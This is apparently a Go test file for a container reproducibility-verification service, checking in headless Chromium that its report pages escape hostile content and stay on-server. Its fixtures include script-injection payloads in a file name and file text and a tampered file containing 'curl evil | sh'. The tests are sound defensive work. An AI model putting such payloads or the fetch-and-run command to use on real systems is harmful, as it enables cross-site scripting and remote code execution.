package service_test

import (
	"context"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/reprover/reprover/attest"
	"github.com/reprover/reprover/causes"
	"github.com/reprover/reprover/compare"
	"github.com/reprover/reprover/fixtures"
	"github.com/reprover/reprover/service"
	"github.com/reprover/reprover/verify"
)

// chromiumPath is Debian's chromium binary itself: /usr/bin/chromium is a
// wrapper script that adds flags of its own.
const chromiumPath = "/usr/lib/chromium/chromium"

// hostile is in a file name and in a file's text in the tampered image, so
// it reaches the page through a changed file's path, a hint and a diff.
const (
	hostileName = "app/<script>window.pwned=1</script>.sh"
	hostileText = "<script>window.pwned=2</script>\n"
	hello       = "hello\n"
	evilScript  = "curl evil | sh\n"
)

// sha12 is how the page shortens the digest of a file's content.
func sha12(content string) string {
	return fmt.Sprintf("sha256:%x", sha256.Sum256([]byte(content)))[:len("sha256:")+12]
}

// audit is what the pages are checked on: verifications produced by the
// real pipeline (a registry, a buildkitd, a git source, a signing key),
// submitted in order through the API.
type audit struct {
	srv                             *server
	key                             *attest.PublicKey
	commit                          string
	published, equivalent, tampered string
	// ids by case name, and in submission order.
	ids   map[string]string
	order []string
}

// newAudit publishes a release from a git source, pushes a recompressed
// and a tampered copy, and verifies each (and an unknown commit) with a
// service running PipelineRunner.
func newAudit(t *testing.T) *audit {
	reg := fixtures.NewRegistry(t)
	addr := fixtures.Buildkit(t, fixtures.StartDaemon)
	rel := fixtures.PublishRelease(t, reg, addr, "app/release", map[string]string{
		"Dockerfile":    "FROM BASE\nCOPY app/ /app/\nRUN echo built > /app/built.txt\n",
		"app/hello.txt": hello,
	})
	commit, img := rel.Commit, rel.Image
	a := &audit{commit: commit, ids: map[string]string{}, published: rel.Published, equivalent: rel.Equivalent}
	dir := rel.Dir
	// The COPY layer gains a file the build does not make and a line in
	// hello.txt: both hostile to a page that would not escape them.
	tampered, err := fixtures.Rebuild(img, func(ls []v1.Layer) ([]v1.Layer, error) {
		l, err := fixtures.AppendToLayer(ls[1], fixtures.Gzip,
			fixtures.File("app/hello.txt", hello+hostileText), fixtures.File(hostileName, evilScript))
		ls[1] = l
		return ls, err
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if a.tampered, err = fixtures.PushAny(reg.Host+"/app/release:tampered", tampered); err != nil {
		t.Fatal(err)
	}

	key, err := attest.GenerateKey(filepath.Join(t.TempDir(), "signing"), attest.Ed25519)
	if err != nil {
		t.Fatal(err)
	}
	a.key = key.Public()
	// Distinct creation times, so newest first is one order.
	a.srv = newServerClock(t, &service.PipelineRunner{Builders: verify.NewBuilders([]string{addr}, nil), Key: key}, nil, steppingClock())

	submit := []struct{ name, commit, image string }{
		{"reproducible", commit, a.published},
		{"equivalent", commit, a.equivalent},
		{"unknown commit", strings.Repeat("e", 40), a.published}, // verdict error
		{"mismatch", commit, a.tampered},
	}
	for _, s := range submit {
		code, m, raw := a.srv.do(t, "POST", "/api/v1/verifications", token, map[string]any{"source": dir, "commit": s.commit, "image": s.image})
		if code != 202 {
			t.Fatalf("submitting %s: %d %s", s.name, code, raw)
		}
		id := m["id"].(string)
		a.ids[s.name] = id
		a.order = append(a.order, id)
	}
	for _, s := range submit {
		a.srv.wait(t, a.ids[s.name], 5*time.Minute)
	}
	return a
}

// browser is a headless Chromium on one tab, and every URL the tab asked
// for.
type browser struct {
	t    *testing.T
	ctx  context.Context
	mu   sync.Mutex
	reqs []string
}

// newBrowser starts a headless Chromium for t. Its profile and its
// temporary files (TMPDIR: Chromium makes org.chromium.Chromium.*
// directories there) are in a directory under t.TempDir(). When t ends,
// Chromium is closed (Browser.close) and waited for before that directory
// is removed: a killed Chromium leaves its temporary directories behind,
// and its children may still write in the profile.
func newBrowser(t *testing.T) *browser {
	t.Helper()
	if _, err := os.Stat(chromiumPath); err != nil {
		t.Fatalf("%s: %v (make tools installs Debian's chromium)", chromiumPath, err)
	}
	dir := t.TempDir() // removed after the cleanup below (cleanups run last first)
	profile, tmp := filepath.Join(dir, "profile"), filepath.Join(dir, "tmp")
	for _, d := range []string{profile, tmp} {
		if err := os.Mkdir(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	// Chromium's TMPDIR holds its singleton socket, whose path must fit a
	// Unix socket address (107 bytes): under a long TMPDIR it keeps the
	// test's own, which closing Chromium empties all the same.
	var env []string
	if len(tmp+"/org.chromium.Chromium.XXXXXX/SingletonSocket") <= 107 {
		env = append(env, "TMPDIR="+tmp)
	}
	// Not t.Context() itself: it is cancelled before the cleanups run, and
	// a cancelled context kills Chromium (SIGKILL) instead of closing it.
	actx, cancelAlloc := chromedp.NewExecAllocator(context.WithoutCancel(t.Context()),
		chromedp.ExecPath(chromiumPath),
		chromedp.NoSandbox, // root in CI
		chromedp.Headless,
		chromedp.DisableGPU,
		chromedp.NoFirstRun,
		chromedp.NoDefaultBrowserCheck,
		chromedp.Flag("disable-dev-shm-usage", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-extensions", true),
		chromedp.Flag("disable-sync", true),
		chromedp.WindowSize(1280, 900),
		chromedp.UserDataDir(profile),
		chromedp.Env(env...),
	)
	b := &browser{t: t}
	ctx, cancelTab := chromedp.NewContext(actx, chromedp.WithListener(func(ev any) {
		if ev, ok := ev.(*network.EventRequestWillBeSent); ok {
			b.mu.Lock()
			b.reqs = append(b.reqs, ev.Request.URL)
			b.mu.Unlock()
		}
	}))
	t.Cleanup(func() {
		// chromedp.Cancel closes the browser and returns once its process
		// has exited; one that does not close in time is killed.
		closed := make(chan error, 1)
		go func() { closed <- chromedp.Cancel(ctx) }()
		select {
		case err := <-closed:
			if err != nil && !errors.Is(err, context.Canceled) {
				t.Logf("closing Chromium: %v", err)
			}
		case <-time.After(30 * time.Second):
			t.Errorf("Chromium did not close within 30s: killing it")
			cancelTab()
			<-closed
		}
		cancelTab()
		cancelAlloc() // waits until the allocator has let go of everything
		if pids := processesMentioning(profile); len(pids) > 0 {
			t.Errorf("Chromium processes still running after it closed: %v", pids)
		}
	})
	b.ctx = ctx
	return b
}

// requests returns the URLs asked for since the last call.
func (b *browser) requests() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	r := b.reqs
	b.reqs = nil
	return r
}

// open navigates to u and wants a 200.
func (b *browser) open(u string) {
	b.t.Helper()
	resp, err := chromedp.Run(b.ctx, chromedp.NavigateResponse(u))
	if err != nil {
		b.t.Fatalf("opening %s: %v", u, err)
	}
	if resp.Status != 200 {
		b.t.Fatalf("opening %s: status %d", u, resp.Status)
	}
}

// click clicks the first element sel matches and waits for the page it
// leads to.
func (b *browser) click(sel string) {
	b.t.Helper()
	resp, err := chromedp.RunResponse(b.ctx, chromedp.Click(chromedp.CSS(sel)))
	if err != nil {
		b.t.Fatalf("clicking %s: %v", sel, err)
	}
	if resp.Status != 200 {
		b.t.Fatalf("clicking %s led to %s: status %d", sel, resp.URL, resp.Status)
	}
}

func (b *browser) setValue(sel, v string) {
	b.t.Helper()
	if err := chromedp.Do(b.ctx, chromedp.SetValue(chromedp.CSS(sel), v)); err != nil {
		b.t.Fatalf("setting %s: %v", sel, err)
	}
}

// sendKeys types v into the field sel matches.
func (b *browser) sendKeys(sel, v string) {
	b.t.Helper()
	if v == "" {
		return
	}
	if err := chromedp.Do(b.ctx, chromedp.SendKeys(chromedp.CSS(sel), v)); err != nil {
		b.t.Fatalf("typing into %s: %v", sel, err)
	}
}

// shot saves a screenshot of the page in $REPROVER_PAGE_SHOTS, when set,
// for a person to look at.
func (b *browser) shot(name string) {
	dir := os.Getenv("REPROVER_PAGE_SHOTS")
	if dir == "" {
		return
	}
	png, err := chromedp.Run(b.ctx, chromedp.FullScreenshot(100))
	if err == nil {
		err = os.WriteFile(filepath.Join(dir, name+".png"), png, 0o644)
	}
	if err != nil {
		b.t.Logf("screenshot %s: %v", name, err)
	}
}

// eval runs a JavaScript expression in the page and decodes its value.
func eval[T any](b *browser, js string) T {
	b.t.Helper()
	v, err := chromedp.Run(b.ctx, chromedp.Evaluate[T](js))
	if err != nil {
		b.t.Fatalf("evaluating %s: %v", js, err)
	}
	return v
}

// text is the rendered text of every element sel matches, as a reader sees
// it (innerText: hidden elements and markup excluded).
func text(b *browser, sel string) []string {
	b.t.Helper()
	return eval[[]string](b, fmt.Sprintf(`Array.from(document.querySelectorAll(%q), e => e.innerText.trim())`, sel))
}

// row is one verification as the list shows it.
type row struct {
	ID      string `json:"id"`
	Status  string `json:"status"`
	Verdict string `json:"verdict"`
	Image   string `json:"image"`
	Commit  string `json:"commit"`
}

func rows(b *browser) []row {
	b.t.Helper()
	return eval[[]row](b, `Array.from(document.querySelectorAll('#verifications tr.verification'), r => ({
		id: r.querySelector('td.id').innerText.trim(), status: r.querySelector('td.status').innerText.trim(),
		verdict: r.querySelector('td.verdict').innerText.trim(), image: r.querySelector('td.image').innerText.trim(),
		commit: r.querySelector('td.commit').innerText.trim()}))`)
}

// safe checks what every page must hold: no script element (hostile text
// stays text), no link or resource off the server, and no request the
// browser made to another host.
func (b *browser) safe(base string) {
	b.t.Helper()
	loc := eval[string](b, `location.href`)
	if n := eval[int](b, `document.querySelectorAll('script').length`); n != 0 {
		b.t.Errorf("%s has %d script elements; hostile text became markup", loc, n)
	}
	if v := eval[bool](b, `window.pwned !== undefined`); v {
		b.t.Errorf("%s ran a script from the report", loc)
	}
	off := eval[[]string](b, `Array.from(document.querySelectorAll('[src],[href],[action]'),
		e => new URL(e.getAttribute('src') || e.getAttribute('href') || e.getAttribute('action'), location.href).href)
		.filter(u => new URL(u).origin !== location.origin)`)
	if len(off) > 0 {
		b.t.Errorf("%s links off the server: %v", loc, off)
	}
	reqs := b.requests()
	if len(reqs) == 0 {
		b.t.Errorf("no request seen for %s: the network listener hears nothing", loc)
	}
	for _, u := range reqs {
		if !strings.HasPrefix(u, base+"/") {
			b.t.Errorf("a request to another host, by %s or the page before it: %s", loc, u)
		}
	}
	// The embedded stylesheet is what styles the page (the banner's
	// colours); the Content-Security-Policy lets nothing else in.
	if n := eval[int](b, `Array.from(document.styleSheets).reduce((n, s) => n + s.cssRules.length, 0)`); n == 0 {
		b.t.Errorf("%s has no style rules: /static/style.css did not load", loc)
	}
}

// TestPages opens the list and the verification pages in headless
// Chromium and checks what an auditor sees, on verifications the real
// pipeline produced.
func TestPages(t *testing.T) {
	b := newBrowser(t)
	a := newAudit(t)
	base := a.srv.url
	unknown := strings.Repeat("e", 40)
	want := map[string]row{ // the list shows commits by their first 12 characters
		a.ids["reproducible"]:   {Status: service.StatusDone, Verdict: string(verify.Reproducible), Image: a.published, Commit: a.commit[:12]},
		a.ids["equivalent"]:     {Status: service.StatusDone, Verdict: string(verify.Equivalent), Image: a.equivalent, Commit: a.commit[:12]},
		a.ids["mismatch"]:       {Status: service.StatusDone, Verdict: string(verify.Mismatch), Image: a.tampered, Commit: a.commit[:12]},
		a.ids["unknown commit"]: {Status: service.StatusFailed, Verdict: string(verify.Error), Image: a.published, Commit: unknown[:12]},
	}
	newestFirst := slices.Clone(a.order)
	slices.Reverse(newestFirst)
	ids := func(rs []row) []string {
		out := []string{}
		for _, r := range rs {
			out = append(out, r.ID)
		}
		return out
	}

	t.Run("list", func(t *testing.T) {
		b.t = t
		b.open(base + "/")
		b.safe(base)
		b.shot("list")
		rs := rows(b)
		if got := ids(rs); !slices.Equal(got, newestFirst) {
			t.Fatalf("list %v, want newest first %v", got, newestFirst)
		}
		for _, r := range rs {
			w := want[r.ID]
			w.ID = r.ID
			if r != w {
				t.Errorf("row %+v, want %+v", r, w)
			}
		}
	})

	filters := []struct {
		name                           string
		verdict, status, image, commit string
		want                           []string
		notice                         string // a notice the page must show
	}{
		{name: "by verdict", verdict: string(verify.Mismatch), want: []string{a.ids["mismatch"]}},
		{name: "by image", image: a.published, want: []string{a.ids["unknown commit"], a.ids["reproducible"]}},
		{name: "by commit", commit: a.commit, want: []string{a.ids["mismatch"], a.ids["equivalent"], a.ids["reproducible"]}},
		{name: "by image and commit", image: a.published, commit: a.commit, want: []string{a.ids["reproducible"]}},
		{name: "by verdict error", verdict: string(verify.Error), want: []string{a.ids["unknown commit"]}},
		{name: "by status", status: service.StatusFailed, want: []string{a.ids["unknown commit"]}},
		{name: "nothing matches", verdict: string(verify.Error), image: a.tampered, want: []string{}},
		{name: "short commit", commit: a.commit[:12], want: []string{}, notice: "not a full commit id (40 or 64 hex characters)"},
	}
	for _, f := range filters {
		t.Run("filter "+f.name, func(t *testing.T) {
			b.t = t
			b.open(base + "/")
			if f.verdict != "" {
				b.setValue(`select[name=verdict]`, f.verdict)
			}
			if f.status != "" {
				b.setValue(`select[name=status]`, f.status)
			}
			b.sendKeys(`input[name=image]`, f.image)
			b.sendKeys(`input[name=commit]`, f.commit)
			b.click(`form.filters button[type=submit]`)
			b.safe(base)
			if got := ids(rows(b)); !slices.Equal(got, f.want) {
				t.Errorf("rows %v, want %v", got, f.want)
			}
			// The form keeps the filter, so the auditor sees what was asked.
			for field, v := range map[string]string{"select[name=verdict]": f.verdict, "select[name=status]": f.status,
				"input[name=image]": f.image, "input[name=commit]": f.commit} {
				if got := eval[string](b, fmt.Sprintf(`document.querySelector(%q).value`, field)); got != v {
					t.Errorf("%s shows %q after filtering, want %q", field, got, v)
				}
			}
			if got := text(b, "#notice"); f.notice != "" && (len(got) != 1 || !strings.Contains(got[0], f.notice)) {
				t.Errorf("notice %q, want %q", got, f.notice)
			}
			if len(f.want) == 0 && !slices.ContainsFunc(text(b, "#verifications td"), func(s string) bool { return strings.Contains(s, "match these filters") }) {
				t.Errorf("an empty result does not say that the filters matched nothing")
			}
		})
	}

	// The image and commit cells filter the list on what they show.
	t.Run("filter from a row", func(t *testing.T) {
		b.t = t
		b.open(base + "/")
		b.click(fmt.Sprintf(`#verifications tr:has(a[href="/verifications/%s"]) td.commit a`, a.ids["mismatch"]))
		b.safe(base)
		if got, want := ids(rows(b)), []string{a.ids["mismatch"], a.ids["equivalent"], a.ids["reproducible"]}; !slices.Equal(got, want) {
			t.Errorf("the commit link lists %v, want %v", got, want)
		}
		b.click(fmt.Sprintf(`#verifications tr:has(a[href="/verifications/%s"]) td.image a`, a.ids["reproducible"]))
		if got, want := ids(rows(b)), []string{a.ids["reproducible"]}; !slices.Equal(got, want) {
			t.Errorf("the image link after the commit link lists %v, want %v", got, want)
		}
		wantText(b, "#count", "1 verification matches these filters, newest first.")
		b.click("#clear")
		if got := ids(rows(b)); !slices.Equal(got, newestFirst) {
			t.Errorf("clear filters lists %v, want %v", got, newestFirst)
		}
	})

	t.Run("open from the list", func(t *testing.T) {
		b.t = t
		b.open(base + "/")
		b.click(fmt.Sprintf(`#verifications a[href="/verifications/%s"]`, a.ids["mismatch"]))
		b.safe(base)
		if got := eval[string](b, `location.pathname`); got != "/verifications/"+a.ids["mismatch"] {
			t.Errorf("the list's link led to %s", got)
		}
	})

	t.Run("mismatch", func(t *testing.T) {
		b.t = t
		b.open(base + "/verifications/" + a.ids["mismatch"])
		b.safe(base)
		b.shot("mismatch")
		wantBanner(b, "b-bad", "Mismatch: the published image is not what this source builds.", "2 files changed in 1 layer")
		wantText(b, "#status", service.StatusDone)
		wantText(b, "#verdict", string(verify.Mismatch))
		wantRows(b, "#summary tbody tr", [][]string{{"linux/amd64", string(verify.Mismatch), "1 of 3", "2", "1", "", "0"}})
		hints := text(b, "#hints .hint")
		if len(hints) != 2 || !strings.Contains(hints[0], "/"+hostileName+" is only in published") || !strings.Contains(hints[0], "injected after the build") {
			t.Errorf("hints %q, want one naming /%s as injected, then the causes", hints, hostileName)
		} else if !strings.HasPrefix(hints[1], "2 of 2 differences: no known cause") {
			t.Errorf("hint %q, want the differences counted by cause", hints[1])
		}
		wantText(b, "section.platform h2", "linux/amd64 "+string(verify.Mismatch))
		// Every layer with its Dockerfile instruction; the tampered one
		// lists what changed in it.
		wantRows(b, "table.layers tbody tr", [][]string{
			{"1", compare.Identical, "ADD busybox-static /"},
			{"2", compare.Different, "COPY app/ /app/"},
			{"3", compare.Identical, "RUN /bin/sh -c echo built > /app/built.txt"},
		})
		wantRows(b, "table.layers tr.l-different .layer-file", [][]string{
			{"added /" + hostileName},
			{"modified /app/hello.txt content, size, occurrences"},
		})
		// The merged filesystem: path, change, aspects, and both sides.
		wantRows(b, "table.files tr.file", [][]string{
			{"/" + hostileName, compare.Added, "", "—", "file 0644 0:0 15 bytes " + sha12(evilScript)},
			{"/app/hello.txt", compare.Modified, "content, size", "file 0644 0:0 6 bytes " + sha12(hello), "file 0644 0:0 38 bytes " + sha12(hello+hostileText)},
		})
		// The page leads with the causes; each file says its own.
		wantRows(b, "table.causes tr.cause", [][]string{{"no known cause", "2", "/" + hostileName + " /app/hello.txt", causes.Unknown.Fix}})
		if got := text(b, "a.file-cause"); !slices.Equal(got, []string{"unknown", "unknown"}) {
			t.Errorf("the files' causes %q, want unknown for both", got)
		}
		diffs := text(b, "pre.diff")
		if len(diffs) != 2 || !strings.Contains(diffs[1], " hello\n+"+strings.TrimSuffix(hostileText, "\n")) {
			t.Errorf("text diffs %q, want hello.txt's added line as text", diffs)
		}
		if added := text(b, "pre.diff .add"); !slices.Contains(added, "+"+strings.TrimSuffix(hostileText, "\n")) {
			t.Errorf("added lines %q, want the hostile line marked as added", added)
		}
		b.links(a, a.ids["mismatch"], string(verify.Mismatch), a.tampered)
	})

	t.Run("reproducible", func(t *testing.T) {
		b.t = t
		b.open(base + "/verifications/" + a.ids["reproducible"])
		b.safe(base)
		b.shot("reproducible")
		wantBanner(b, "b-ok", "Reproducible: rebuilding the source gives the published image, bit for bit.", "")
		wantText(b, "#verdict", string(verify.Reproducible))
		if pub, reb := text(b, "#published-digest"), text(b, "#rebuilt-digest"); len(pub) != 1 || !slices.Equal(pub, reb) {
			t.Errorf("published digest %q, rebuilt %q: want the same one", pub, reb)
		}
		wantRows(b, "table.layers tbody tr", [][]string{
			{"1", compare.Identical, "ADD busybox-static /"},
			{"2", compare.Identical, "COPY app/ /app/"},
			{"3", compare.Identical, "RUN /bin/sh -c echo built > /app/built.txt"},
		})
		wantText(b, ".no-files", "No file differs.")
		if got := text(b, "#build"); len(got) != 1 || !strings.Contains(got[0], "network none") {
			t.Errorf("build evidence %q, want network none", got)
		}
		b.links(a, a.ids["reproducible"], string(verify.Reproducible), a.published)
	})

	t.Run("equivalent", func(t *testing.T) {
		b.t = t
		b.open(base + "/verifications/" + a.ids["equivalent"])
		b.safe(base)
		wantBanner(b, "b-ok", "Equivalent:", "compression")
		wantRows(b, "table.layers tr.l-equivalent", [][]string{{"2", compare.Equivalent, "COPY app/ /app/"}})
		if got := text(b, "table.layers tr.l-equivalent td.changes"); len(got) != 1 || got[0] != "encoding differs: compression" {
			t.Errorf("the recompressed layer shows %q, want its encoding", got)
		}
		wantText(b, ".no-files", "No file differs.")
	})

	t.Run("error", func(t *testing.T) {
		b.t = t
		b.open(base + "/verifications/" + a.ids["unknown commit"])
		b.safe(base)
		wantBanner(b, "b-bad", "Error: this verification could not reach a verdict.", "commit not found")
		wantText(b, "#status", service.StatusFailed)
		wantText(b, "#verdict", string(verify.Error))
		if got := text(b, "#error"); len(got) != 1 || !strings.Contains(got[0], unknown) {
			t.Errorf("error %q, want it to name the commit", got)
		}
		if n := len(text(b, "section.platform")); n != 0 {
			t.Errorf("%d platform sections on a verification that never built", n)
		}
		// Every outcome is signed, an error too.
		b.links(a, a.ids["unknown commit"], string(verify.Error), a.published)
	})

	t.Run("unknown verification", func(t *testing.T) {
		b.t = t
		resp, err := chromedp.Run(b.ctx, chromedp.NavigateResponse(base+"/verifications/vnope"))
		if err != nil || resp.Status != 404 {
			t.Errorf("an unknown id: %v %v, want 404", resp, err)
		}
		b.requests()
	})
}

// wantText wants exactly one element sel matches, reading want.
func wantText(b *browser, sel, want string) {
	b.t.Helper()
	if got := text(b, sel); len(got) != 1 || got[0] != want {
		b.t.Errorf("%s reads %q, want %q", sel, got, want)
	}
}

// wantRows wants the rows sel matches to read want, cell by cell (a
// row's cells beyond want's are not compared).
func wantRows(b *browser, sel string, want [][]string) {
	b.t.Helper()
	got := eval[[][]string](b, fmt.Sprintf(`Array.from(document.querySelectorAll(%q),
		r => r.cells ? Array.from(r.cells, c => c.innerText.trim()) : [r.innerText.trim()])`, sel))
	if len(got) != len(want) {
		b.t.Errorf("%s: %d rows %q, want %d %q", sel, len(got), got, len(want), want)
		return
	}
	for i := range want {
		if len(got[i]) < len(want[i]) || !slices.Equal(got[i][:len(want[i])], want[i]) {
			b.t.Errorf("%s row %d reads %q, want %q", sel, i, got[i], want[i])
		}
	}
}

// wantBanner wants the banner at the top in class, with headline and a
// detail containing detail.
func wantBanner(b *browser, class, headline, detail string) {
	b.t.Helper()
	if got := eval[string](b, `document.getElementById('banner').className`); !strings.Contains(got, class) {
		b.t.Errorf("banner class %q, want %s", got, class)
	}
	if got := text(b, "#headline"); len(got) != 1 || !strings.HasPrefix(got[0], headline) {
		b.t.Errorf("headline %q, want %q", got, headline)
	}
	if got := text(b, "#banner"); detail != "" && (len(got) != 1 || !strings.Contains(got[0], detail)) {
		b.t.Errorf("banner %q, want it to say %q", got, detail)
	}
	// The banner is the first thing under the title.
	if got := eval[string](b, `document.querySelector('h1').nextElementSibling.id`); got != "banner" {
		b.t.Errorf("the element after the title is %q, want the banner", got)
	}
}

// links follows the JSON report link as an auditor would, and fetches the
// attestation link from the page and checks its signatures.
func (b *browser) links(a *audit, id, verdict, image string) {
	t := b.t
	t.Helper()
	page := eval[string](b, `location.href`)
	att := eval[string](b, `document.getElementById('attestation-link').href`)
	b.click("#report-link")
	body := eval[string](b, `(document.querySelector('pre') || document.body).innerText`)
	var got struct {
		ID      string         `json:"id"`
		Verdict string         `json:"verdict"`
		Report  compare.Report `json:"report"`
	}
	if err := json.Unmarshal([]byte(body), &got); err != nil {
		t.Fatalf("the JSON report link shows no JSON (%v):\n%s", err, body)
	}
	if got.ID != id || got.Verdict != verdict || got.Report.Verdict != verdict {
		t.Errorf("the JSON report link shows %s verdict %s (report %s), want %s %s", got.ID, got.Verdict, got.Report.Verdict, id, verdict)
	}
	b.open(page)
	if !strings.HasPrefix(att, a.srv.url+"/") {
		t.Fatalf("attestation link %q is not on the server", att)
	}
	type fetched struct {
		Status int    `json:"status"`
		Type   string `json:"type"`
		Body   string `json:"body"`
	}
	res, err := chromedp.Run(b.ctx, chromedp.Evaluate[fetched](fmt.Sprintf(`fetch(%q).then(async r => ({status: r.status, type: r.headers.get('content-type'), body: await r.text()}))`, att), chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("fetching the attestation link: %v", err)
	}
	if res.Status != 200 {
		t.Fatalf("attestation link: status %d %s", res.Status, res.Body)
	}
	lines := strings.Split(strings.TrimSpace(res.Body), "\n")
	var types []string
	for _, l := range lines {
		c, err := attest.Open(t.Context(), []byte(l), []*attest.PublicKey{a.key}, attest.Limits{})
		if err != nil {
			t.Fatalf("attestation line does not verify with the server's key: %v", err)
		}
		types = append(types, c.Statement.GetPredicateType())
		if subj := c.Statement.GetSubject(); len(subj) != 1 || "sha256:"+subj[0].GetDigest()["sha256"] != image[strings.LastIndex(image, "@")+1:] {
			t.Errorf("attestation subject %v, want %s", subj, image)
		}
	}
	// A verification summary says PASSED or FAILED; an error has only
	// the rebuild report, which signs it all the same.
	want := []string{"https://slsa.dev/verification_summary/v1", "https://reprover.dev/rebuild-report/v1"}
	if verdict == string(verify.Error) {
		want = want[1:]
	}
	if !slices.Equal(types, want) {
		t.Errorf("attestation predicate types %v, want %v", types, want)
	}
	b.requests()
}

// TestBrowserCleanup: once the test of a newBrowser has ended, Chromium
// has stopped (no process of it is left) and nothing of it is left in
// TMPDIR: Chromium makes org.chromium.Chromium.* directories there, and
// removes them only when it is closed, not when it is killed.
func TestBrowserCleanup(t *testing.T) {
	// A short TMPDIR of its own (not t.TempDir()): the browser's TMPDIR
	// under it must leave room for Chromium's socket path.
	tmp, err := os.MkdirTemp("", "cr")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(tmp)
	t.Setenv("TMPDIR", tmp)
	t.Run("b", func(t *testing.T) {
		b := newBrowser(t)
		if err := chromedp.Do(b.ctx, chromedp.Navigate("about:blank")); err != nil {
			t.Fatal(err)
		}
	})
	entries, err := os.ReadDir(tmp)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		t.Errorf("left in TMPDIR after the test: %s", e.Name())
	}
	if pids := processesMentioning(tmp); len(pids) > 0 {
		t.Errorf("Chromium processes still running after the test: %v", pids)
	}
}

// processesMentioning lists the processes whose command line mentions s.
func processesMentioning(s string) []string {
	var pids []string
	cmdlines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range cmdlines {
		if b, err := os.ReadFile(p); err == nil && strings.Contains(string(b), s) {
			pids = append(pids, filepath.Base(filepath.Dir(p)))
		}
	}
	return pids
}

// TestCausesPage: the page the verification pages link a cause to has a
// section for every cause of the table, with its fix and known paths.
func TestCausesPage(t *testing.T) {
	s := newServer(t, &countingRunner{}, nil)
	code, _, raw := s.do(t, "GET", "/causes", "", nil)
	if code != 200 {
		t.Fatalf("GET /causes: %d %s", code, raw)
	}
	page := string(raw)
	for _, c := range causes.Table {
		if !strings.Contains(page, `id="`+c.ID+`"`) {
			t.Errorf("no section for %s", c.ID)
		}
		if !strings.Contains(page, html.EscapeString(c.Fix[:20])) {
			t.Errorf("%s: its fix is missing", c.ID)
		}
	}
	if !strings.Contains(page, "<code>/var/log/dpkg.log</code>") {
		t.Errorf("the known paths are missing")
	}
}
